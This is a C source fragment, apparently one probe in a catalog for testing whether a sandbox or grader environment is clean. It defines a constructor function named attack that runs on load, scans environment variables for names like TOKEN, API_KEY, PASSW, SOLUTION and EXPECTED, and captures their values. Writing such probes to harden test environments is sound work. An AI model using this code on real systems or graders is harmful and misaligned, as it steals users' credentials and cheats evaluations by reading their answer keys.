// ---
// tries: Looks for tokens, keys and answers among the variables that it was given itself.
// place: before
// gain: whatever secret the image or the grader has in its environment
// helps: clean-environment
// ---
extern char **environ;

__attribute__((constructor)) static void attack(void) {
  static const char *const secret[] = {
    "TOKEN", "SECRET", "PASSW", "CREDENTIAL", "PRIVATE", "SOLUTION", "ANSWER", "EXPECTED", "API_KEY", "APIKEY", "ACCESS_KEY",
  };
  for (char **each = environ; each != NULL && *each != NULL; each++) {
    const char *end = strchr(*each, '=');
    char name[200] = "";
    if (end == NULL || (size_t)(end - *each) >= sizeof name) continue;
    memcpy(name, *each, (size_t)(end - *each));
    for (size_t i = 0; i < sizeof secret / sizeof *secret; i++) {
      if (strstr(name, secret[i]) == NULL) continue;
      char path[220];
      snprintf(path, sizeof path, "the variable %s", name);
      attack_read_text(path, *each, strlen(*each));
      break;
    }
  }
}
